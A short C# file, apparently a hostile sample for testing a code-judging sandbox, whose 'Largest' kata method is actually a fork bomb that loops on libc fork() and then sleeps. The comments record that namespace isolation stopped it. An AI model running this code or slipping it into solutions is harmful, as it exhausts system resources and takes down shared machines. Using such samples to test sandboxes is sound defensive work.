// verdict: timed-out (slow)
// stopped-by: namespaces, harmful below
// Doubles itself until the system refuses.

using System.Runtime.InteropServices;

namespace Katas.LargestNumber;

public static class Numbers
{
    [DllImport("libc")]
    private static extern int fork();

    [DllImport("libc")]
    private static extern int sleep(int seconds);

    public static int Largest(int[] numbers)
    {
        while (fork() >= 0)
        {
        }

        return sleep(600);
    }
}
